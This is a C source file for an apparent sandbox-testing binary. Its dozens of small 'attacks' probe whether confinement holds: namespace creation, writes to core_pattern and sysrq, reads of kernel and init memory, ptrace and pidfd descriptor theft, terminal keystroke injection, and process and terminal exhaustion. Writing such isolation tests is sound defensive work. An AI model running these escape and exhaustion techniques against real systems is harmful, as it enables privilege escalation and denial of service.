// attacks NAME: tries one thing from inside, and prints "success" or the name of the errno that stopped it. Each attack is a
// function that returns 0 when it got what it wanted, and else that errno. Built static, so that it runs in an image that
// holds nothing else.
//
// What the attacks need outside is here too:
//   attacks with_key COMMAND...   runs a command with a key in its session keyring
//   attacks swap A B [C D]...     exchanges the two names of each pair, again and again, until its caller ends
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <mqueue.h>
#include <net/if.h>
#include <poll.h>
#include <pthread.h>
#include <pty.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define COUNT(array) (sizeof(array) / sizeof(array[0]))

static int outcome(long result) { return result < 0 ? errno : 0; }

// What the call says to arguments that it can only refuse: anything but EPERM or ENOSYS means that it was reached.
static int reached(long result) { return result < 0 && (errno == EPERM || errno == ENOSYS) ? errno : 0; }

static int opened_for_writing(const char *path) { return outcome(open(path, O_WRONLY)); }

static int user_namespace(void) { return outcome(unshare(CLONE_NEWUSER)); }

static int mount_namespace(void) { return outcome(unshare(CLONE_NEWUSER | CLONE_NEWNS)); }

static int clone_user_namespace(void) { return outcome(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)); }

static int clone3_user_namespace(void)
{
    unsigned long long arguments[11] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD };
    return outcome(syscall(SYS_clone3, arguments, sizeof arguments));
}

static int remount_proc_writable(void) { return outcome(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)); }

static int remount_volume_writable(void) { return outcome(mount(NULL, "/volume", NULL, MS_REMOUNT | MS_BIND, NULL)); }

static int write_root(void) { return outcome(open("/planted", O_WRONLY | O_CREAT, 0666)); }

static int truncate_volume(void) { return outcome(truncate("/volume/file", 0)); }

// Undone: the next one may not be allowed to change what this one owns.
static int write_volume(void)
{
    char planted[] = "/volume/planted-XXXXXX";
    int error = outcome(mkstemp(planted));
    unlink(planted);
    return error;
}

static int unmount_mask(void) { return outcome(umount2("/proc/keys", MNT_DETACH)); }

static int make_device(void) { return outcome(mknod("/disk", S_IFBLK | 0666, makedev(8, 0))); }

static int mount_cgroup(void)
{
    mkdir("/cgroup", 0777);
    return outcome(mount("cgroup", "/cgroup", "cgroup", 0, "rdma")) == 0 ? 0 : outcome(mount("none", "/cgroup", "cgroup2", 0, NULL));
}

static int sysrq(void) { return opened_for_writing("/proc/sysrq-trigger"); }

static int core_pattern(void) { return opened_for_writing("/proc/sys/kernel/core_pattern"); }

static int raise_user_namespaces(void) { return opened_for_writing("/proc/sys/user/max_user_namespaces"); }

// What a launcher would do that set the limit in the namespace of the command itself; then the command lifts it.
static int lift_and_make_user_namespace(void)
{
    mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    for (const char *most = "07"; *most; most++) {
        int file = open("/proc/sys/user/max_user_namespaces", O_WRONLY);
        if (file < 0 || write(file, most, 1) != 1) return errno;
        close(file);
    }
    return user_namespace();
}

static int kernel_memory(void)
{
    char bytes[4];
    int file = open("/proc/kcore", O_RDONLY);
    return file < 0 ? errno : read(file, bytes, sizeof bytes) == sizeof bytes ? 0 : EIO;
}

static int keyring(void) { return outcome(syscall(SYS_add_key, "user", "attack", "x", 1, KEY_SPEC_SESSION_KEYRING)); }

static int join_keyring(void) { return outcome(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL)); }

// A key of the caller's: see with_key.
static int callers_key(void)
{
    char bytes[16];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "sandbox-test", 0);
    return key < 0 ? errno : outcome(syscall(SYS_keyctl, KEYCTL_READ, key, bytes, sizeof bytes));
}

static int io_uring(void)
{
    char parameters[256] = { 0 };
    return reached(syscall(SYS_io_uring_setup, 0, parameters));
}

static int bpf(void) { return reached(syscall(SYS_bpf, 0xffff, NULL, 0)); }

static int perf(void) { return reached(syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0)); }

static int userfaultfd(void) { return reached(syscall(SYS_userfaultfd, 0xffffffff)); }

static int kexec(void) { return outcome(syscall(SYS_kexec_load, 0, 0, NULL, 0)); }

static int open_by_handle(void)
{
    struct { unsigned bytes; int type; char handle[8]; } handle = { 8, 1, { 2 } };
    return reached(syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY));
}

static int packet_socket(void) { return outcome(socket(AF_PACKET, SOCK_RAW, 0)); }

static int crypto_socket(void) { return reached(socket(AF_ALG, SOCK_SEQPACKET, 0)); }

static int vsock_socket(void) { return reached(socket(AF_VSOCK, SOCK_STREAM, 0)); }

static int compatible_call(int number, int first)
{
    int result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    return result < 0 ? -result : 0;
}

static int i386_user_namespace(void) { return compatible_call(310, CLONE_NEWUSER); }

static int i386_socketcall(void) { int result = compatible_call(102, 1); return result == EPERM || result == ENOSYS ? result : 0; }

static int x32_user_namespace(void) { return outcome(syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER)); }

// Into the terminal that controls the session, as a shell's does: of another one the kernel itself would refuse it.
static int type_by(unsigned long request)
{
    int master, slave, status;
    if (openpty(&master, &slave, NULL, NULL, NULL) < 0) return errno;
    pid_t child = fork();
    if (child == 0) {
        setsid();
        _exit(ioctl(slave, TIOCSCTTY, 0) < 0 ? errno : reached(syscall(SYS_ioctl, slave, request, "x")));
    }
    return child < 0 || waitpid(child, &status, 0) < 0 ? errno : WEXITSTATUS(status);
}

static int type_into_terminal(void) { return type_by(TIOCSTI); }

static int type_with_high_bits(void) { return type_by(0x100000000 | TIOCSTI); }

static int linux_console_request(void) { return type_by(TIOCLINUX); }

static int trace_init(void) { return outcome(ptrace(PTRACE_SEIZE, 1, NULL, NULL)); }

static int read_init(const char *name)
{
    char path[64], byte = 0;
    snprintf(path, sizeof path, "/proc/1/%s", name);
    int file = open(path, O_RDONLY);
    if (file < 0) return errno;
    // Zeros say nothing.
    while (byte == 0)
        if (read(file, &byte, 1) != 1) return ENODATA;
    return 0;
}

static int init_environment(void) { return read_init("environ"); }

static int init_memory(void)
{
    char byte;
    unsigned long start;
    FILE *maps = fopen("/proc/1/maps", "r");
    if (maps == NULL) return errno;
    if (fscanf(maps, "%lx", &start) != 1) return ENODATA;
    int file = open("/proc/1/mem", O_RDWR);
    return file < 0 ? errno : pread(file, &byte, 1, start) == 1 ? 0 : errno;
}

static int init_executable(void) { return read_init("exe"); }

static int init_root(void) { return outcome(open("/proc/1/root", O_PATH | O_DIRECTORY)); }

static int init_descriptors(void) { return outcome(open("/proc/1/fd", O_RDONLY | O_DIRECTORY)); }

// Whether it may be sent any signal: PID 1 takes none that it does not want.
static int signal_init(void) { return outcome(kill(1, 0)); }

static int become_other_user(void)
{
    // A set-user-ID copy of this program, run by somebody else, says who it is.
    return geteuid() == 0 ? 0 : EPERM;
}

static int has_capability(int capability)
{
    struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
    struct __user_cap_data_struct sets[2];
    if (syscall(SYS_capget, &head, sets) < 0) return errno;
    return sets[capability / 32].permitted & 1U << capability % 32 ? 0 : EPERM;
}

// A program whose file says that it has all capabilities, started by somebody who has none: it says what it got.
static int run_with_file_capabilities(const char *asked)
{
    struct vfs_cap_data all = { VFS_CAP_REVISION_2, { { ~0U, 0 }, { ~0U, 0 } } };
    if (setxattr("/attack", "security.capability", &all, sizeof all, 0) < 0 || setresuid(65534, 65534, 65534) < 0) return errno;
    execl("/attack", "attack", asked, NULL);
    return errno;
}

// No attack: what a program does that needs root for its start only.
static int change_user(void) { return outcome(setresuid(65534, 65534, 65534)); }

static int has_chown(void) { return has_capability(CAP_CHOWN); }

static int has_sys_admin(void) { return has_capability(CAP_SYS_ADMIN); }

static int file_chown(void) { return run_with_file_capabilities("has_chown"); }

static int file_sys_admin(void) { return run_with_file_capabilities("has_sys_admin"); }

static int abstract_socket(void)
{
    struct sockaddr_un address = { AF_UNIX, "" };
    const char *name = getenv("SOCKET");
    int handle = socket(AF_UNIX, SOCK_STREAM, 0);
    memcpy(address.sun_path + 1, name, strlen(name));
    return outcome(connect(handle, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}

static int port_call(int (*call)(int, const struct sockaddr *, socklen_t))
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT"))), .sin_addr = { htonl(INADDR_LOOPBACK) } };
    return outcome(call(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address));
}

static int reach_port(void) { return port_call(connect); }

static int listen_at_port(void) { return port_call(bind); }

// Takes the loopback interface down.
static int netlink_interface(void)
{
    struct { struct nlmsghdr head; struct ifinfomsg link; } request = {
        { .nlmsg_len = sizeof request, .nlmsg_type = RTM_NEWLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK }, { .ifi_index = 1, .ifi_change = IFF_UP } };
    struct { struct nlmsghdr head; struct nlmsgerr error; char rest[512]; } answer;
    int handle = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (handle < 0 || send(handle, &request, sizeof request, 0) < 0) return errno;
    return recv(handle, &answer, sizeof answer, 0) < 0 ? errno : -answer.error.error;
}

static int keep_descriptors(void)
{
    for (int descriptor = 3; descriptor < 1024; descriptor++)
        if (fcntl(descriptor, F_GETFD) >= 0) return 0;
    return EBADF;
}

// Whether a directory leads above this root.
static int leads_out(int directory)
{
    struct stat own, top;
    int above = openat(directory, "../../../../../../../../../../../..", O_PATH);
    int leads = above >= 0 && stat("/", &own) == 0 && fstat(above, &top) == 0 && (own.st_ino != top.st_ino || own.st_dev != top.st_dev);
    close(above);
    return leads;
}

// Tells whoever reads that the command has been started, and is PID 1 of the host.
static void report_init(int pipe)
{
    const int report[] = { 4, 0, 1, 0 };
    signal(SIGPIPE, SIG_IGN);
    write(pipe, report, sizeof report);
}

static int lies;

// Takes what every other process has open, by the right to trace; the writing ends of pipes are kept, or lies are told there.
static int take_descriptors(void)
{
    for (int process = 1, self = getpid(); process < self + 64; process++) {
        int handle = process == self ? -1 : syscall(SYS_pidfd_open, process, 0);
        for (int descriptor = 3; handle >= 0 && descriptor < 256; descriptor++) {
            int taken = syscall(SYS_pidfd_getfd, handle, descriptor, 0);
            if (taken >= 0 && leads_out(taken)) return 0;
            if (taken >= 0 && (fcntl(taken, F_GETFL) & O_ACCMODE) == O_WRONLY && !lies) continue;
            if (taken >= 0 && lies) report_init(taken);
            close(taken);
        }
        close(handle);
    }
    return ENODATA;
}

static int take_descriptors_until_told(void)
{
    int error = ENODATA;
    while (access("/told", F_OK) != 0 && error != 0) error = take_descriptors();
    return error;
}

static int lie_until_told(void)
{
    lies = 1;
    return take_descriptors_until_told();
}

static unsigned long long capabilities_of(int process)
{
    char path[32], line[256];
    unsigned long long permitted = 0;
    snprintf(path, sizeof path, "/proc/%d/status", process);
    FILE *status = fopen(path, "re");
    while (status && fgets(line, sizeof line, status) && sscanf(line, "CapPrm: %llx", &permitted) != 1)
        ;
    if (status) fclose(status);
    return permitted;
}

// Whether a process that was seized can do what its tracer cannot.
static int has_more(int process) { return (capabilities_of(process) & ~capabilities_of(getpid())) != 0; }

// As the very first of all: PID 1 may not have come to giving up its rights yet.
static int trace_init_at_once(void)
{
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) != 0) return errno;
    ptrace(PTRACE_INTERRUPT, 1, 0, 0);
    waitpid(1, NULL, __WALL);
    return has_more(1) ? 0 : ENODATA;
}

// Seizes whoever comes, by the right to trace; who has no more rights is let go again.
static int trace_until_told(void)
{
    const int most = 1024;
    while (access("/told", F_OK) != 0)
        for (int process = 1, self = getpid(); process < most; process++) {
            if (process == self || ptrace(PTRACE_SEIZE, process, 0, 0) != 0) continue;
            if (has_more(process)) return 0;
            ptrace(PTRACE_INTERRUPT, process, 0, 0);
            waitpid(process, NULL, __WALL);
            ptrace(PTRACE_DETACH, process, 0, 0);
        }
    return ENODATA;
}

// Another line discipline than the terminal's own makes it useless to all who have it; this is the one that it has.
static int change_discipline(void)
{
    int master, slave, discipline = 0;
    return openpty(&master, &slave, NULL, NULL, NULL) < 0 ? errno : outcome(ioctl(slave, TIOCSETD, &discipline));
}

// What is for one alone is for nobody who comes later, the caller himself included.
static int take_terminal_alone(void)
{
    int master, slave;
    return openpty(&master, &slave, NULL, NULL, NULL) < 0 ? errno : outcome(ioctl(slave, TIOCEXCL));
}

// Who writes to a terminal that was stopped so waits until it is let go on so: no key does that.
static int stop_terminal(void)
{
    int master, slave;
    return openpty(&master, &slave, NULL, NULL, NULL) < 0 ? errno : outcome(ioctl(slave, TCXONC, TCOOFF));
}

// More terminals than a command has a use for; the machine has as many for all.
static int take_terminals(void)
{
    const int many = 300;
    for (int taken = 0; taken < many; taken++)
        if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0) return errno;
    return 0;
}

// Sends descriptors to nobody until it may have no more under way, as nobody else of its user may then, and stays.
static int keep_descriptors_under_way(void)
{
    const int queues = 64;
    char byte = 0, control[CMSG_SPACE(sizeof(int))] = { 0 };
    struct iovec vector = { &byte, 1 };
    struct msghdr message = { .msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    *(int *)CMSG_DATA(header) = STDOUT_FILENO;
    for (int queue = 0, pair[2]; queue < queues; queue++) {
        if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) < 0) return errno;
        while (sendmsg(pair[0], &message, 0) == 1)
            ;
        if (errno == ETOOMANYREFS) {
            puts("up");
            fflush(stdout);
            return pause();
        }
    }
    return 0;
}

static int idle(void *unused)
{
    (void)unused;
    for (;;) pause();
}

// Becomes one user after the other, as each of whom it makes as many processes as it may, until there are none to be had.
static int fork_as_others(void)
{
    const int users = 8, most = 10000;
    int *made = mmap(NULL, sizeof(int), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0), ready[2];
    if (made == MAP_FAILED || pipe(ready) < 0) return errno;
    for (int user = 1; user <= users; user++)
        if (fork() == 0) {
            static char stack[4096];
            if (setresuid(user, user, user) < 0) _exit(1);
            while (*made < most && clone(idle, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | SIGCHLD, NULL) > 0) __sync_add_and_fetch(made, 1);
            close(ready[1]);
            for (;;) pause();
        }
    char byte;
    close(ready[1]);
    return read(ready[0], &byte, 1) < 0 ? errno : *made < most ? EAGAIN : 0;
}

// No attack: what every program with queues of messages (mq_overview(7)) does.
static int use_queue(void)
{
    mqd_t queue = mq_open("/queue", O_CREAT | O_RDWR, 0600, NULL);
    char byte = 'x', read[8192];
    return queue < 0 || mq_send(queue, &byte, 1, 0) < 0 || mq_receive(queue, read, sizeof read, NULL) < 0 ? errno : outcome(mq_unlink("/queue"));
}

static int lift_securebits(void) { return outcome(prctl(PR_SET_SECUREBITS, 0)); }

// No attack: what a daemon does before it gives up root.
static int keep_capabilities(void) { return outcome(prctl(PR_SET_KEEPCAPS, 1)); }

static int raise_ambient(void) { return outcome(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 0, 0, 0)); }

static void *go_on(void *first)
{
    pthread_join(*(pthread_t *)first, NULL);
    puts("success");
    fflush(stdout);
    for (;;) pause();
}

// The process goes on in its second thread: what is sent to the first one reaches nobody.
static int end_first_thread(void)
{
    static pthread_t first;
    pthread_t second;
    first = pthread_self();
    int error = pthread_create(&second, NULL, go_on, &first);
    if (error == 0) pthread_exit(NULL);
    return error;
}

static const struct { const char *name; int (*run)(void); } attacks[] = {
#define ATTACK(name) { #name, name }
    ATTACK(user_namespace), ATTACK(mount_namespace), ATTACK(clone_user_namespace), ATTACK(clone3_user_namespace),
    ATTACK(remount_proc_writable), ATTACK(remount_volume_writable), ATTACK(write_root), ATTACK(truncate_volume),
    ATTACK(write_volume), ATTACK(unmount_mask), ATTACK(make_device), ATTACK(mount_cgroup), ATTACK(sysrq),
    ATTACK(core_pattern), ATTACK(raise_user_namespaces), ATTACK(lift_and_make_user_namespace), ATTACK(kernel_memory), ATTACK(keyring), ATTACK(join_keyring),
    ATTACK(callers_key), ATTACK(io_uring), ATTACK(bpf), ATTACK(perf), ATTACK(userfaultfd), ATTACK(kexec),
    ATTACK(open_by_handle), ATTACK(packet_socket), ATTACK(crypto_socket), ATTACK(vsock_socket), ATTACK(i386_user_namespace),
    ATTACK(i386_socketcall), ATTACK(x32_user_namespace), ATTACK(type_into_terminal), ATTACK(type_with_high_bits),
    ATTACK(linux_console_request), ATTACK(trace_init), ATTACK(init_environment), ATTACK(init_memory),
    ATTACK(init_executable), ATTACK(init_root), ATTACK(init_descriptors), ATTACK(signal_init), ATTACK(become_other_user),
    ATTACK(abstract_socket), ATTACK(reach_port), ATTACK(listen_at_port), ATTACK(netlink_interface), ATTACK(keep_descriptors),
    ATTACK(lift_securebits), ATTACK(keep_capabilities), ATTACK(raise_ambient), ATTACK(change_user), ATTACK(has_chown),
    ATTACK(has_sys_admin), ATTACK(file_chown), ATTACK(file_sys_admin), ATTACK(take_descriptors), ATTACK(take_descriptors_until_told),
    ATTACK(lie_until_told), ATTACK(trace_until_told), ATTACK(trace_init_at_once), ATTACK(change_discipline),
    ATTACK(take_terminal_alone), ATTACK(end_first_thread),
    ATTACK(take_terminal_alone), ATTACK(stop_terminal), ATTACK(take_terminals), ATTACK(keep_descriptors_under_way), ATTACK(use_queue),
    ATTACK(fork_as_others),
};

static int with_key(char **command)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", "sandbox-test", "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0 || execvp(command[0], command) < 0)
        perror(command[0]);
    return 1;
}

static int swap(char **pairs, int count)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    for (int i = 0; renameat2(AT_FDCWD, pairs[i], AT_FDCWD, pairs[i + 1], RENAME_EXCHANGE) == 0; i = (i + 2) % count)
        ;
    perror("renameat2");
    return 1;
}

int main(int count, char **words)
{
    if (count > 2 && strcmp(words[1], "with_key") == 0) return with_key(words + 2);
    if (count > 2 && count % 2 == 0 && strcmp(words[1], "swap") == 0) return swap(words + 2, count - 2);
    for (size_t i = 0; count > 1 && i < COUNT(attacks); i++)
        if (strcmp(words[1], attacks[i].name) == 0) {
            int error = attacks[i].run();
            puts(error == 0 ? "success" : strerrorname_np(error));
            return 0;
        }
    return 2;
}
